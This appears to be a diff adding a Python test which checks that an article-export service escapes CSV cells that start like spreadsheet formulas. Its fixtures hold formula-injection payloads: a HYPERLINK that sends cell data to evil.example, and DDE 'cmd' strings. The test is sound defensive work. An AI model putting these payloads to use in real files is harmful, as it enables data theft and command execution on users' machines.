@@ -108,3 +108,70 @@ def test_read_token_and_bad_parameters(server):
         r = server.client.get("/export/articles.csv", params=params)
         assert r.status_code == 400 and says in r.text, (params, r.text)
     assert server.client.get("/export/articles.xlsx").status_code == 404
+
+
+# -- issue 22 item 8c: a cell a spreadsheet would run as a formula ---------------------------
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+PAYLOAD = 'HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture(scope="module")
+def formula_server(tmp_path_factory):
+    from .corpus import article, write
+
+    folder = tmp_path_factory.mktemp("formula-corpus")
+    for i, ch in enumerate(FORMULA_STARTS):
+        fm = article(
+            f"https://formula.example/a{i}",
+            f"{ch}{PAYLOAD} title",
+            excerpt=f"{ch}{PAYLOAD} excerpt",
+            provider={"name": f"{ch}cmd|' /C calc'!A0", "domain": f"p{i}.example"},
+            topics=[f"{ch}SUM(1+1)*cmd|' /C calc'!A0", "plain"],
+            quality=-5 - i,
+        )
+        write(folder, f"a{i}.md", fm)
+    write(folder, "plain.md", article("https://formula.example/plain", "A plain, title"))
+    with serve(folder, "--no-watch", tmp=tmp_path_factory.mktemp("formula")) as s:
+        yield s
+
+
+COLS = ["url", "title", "excerpt", "providerName", "topics", "quality"]
+TEXT = ("title", "excerpt", "providerName", "topics")
+
+
+def check_neutralised(text: str, raw: list[dict]) -> None:
+    """``text`` read back with the csv module is ``raw`` (the JSON Lines of the same
+    list), each text cell that starts like a formula after one single quote."""
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(raw) == len(FORMULA_STARTS) + 1, text
+    quoted = set()
+    for row, want in zip(rows, raw, strict=True):
+        assert row["url"] == want["url"]
+        for col in TEXT:
+            value = want[col] if col != "topics" else "; ".join(want[col])
+            if value[0] in FORMULA_STARTS:
+                quoted.add(value[0])
+                assert row[col] == "'" + value, (col, row[col], value)
+            else:
+                assert row[col] == value, (col, row[col], value)
+        assert float(row["quality"]) == want["quality"]  # a number is left as it is
+    # Every one of the characters began some cell (ingest turns a leading CR of a title
+    # into LF and strips a topic's white space; the provider's name keeps them all).
+    assert quoted == set(FORMULA_STARTS), quoted
+    plain = next(r for r in rows if r["url"].endswith("plain"))
+    assert plain["title"] == "A plain, title"
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(formula_server):
+    params = {"columns": ",".join(COLS), "sort": "URL"}
+    r = formula_server.client.get("/export/articles.jsonl", params=params)
+    raw = [json.loads(line) for line in r.text.splitlines()]
+    # JSON Lines are data, not a spreadsheet: unchanged.
+    assert {f"{ch}{PAYLOAD} excerpt" for ch in "=+-@\t"} <= {x["excerpt"] for x in raw}
+    r = formula_server.client.get("/export/articles.csv", params=params)
+    assert r.status_code == 200, r.text
+    check_neutralised(r.content.decode(), raw)
+    q = "query($c: [String!]) { articles(sort: [{field: URL}]) { table(format: CSV, columns: $c) } }"
+    table = formula_server.data(q, {"c": COLS})["articles"]["table"]
+    assert table == r.content.decode()
+    check_neutralised(table, raw)
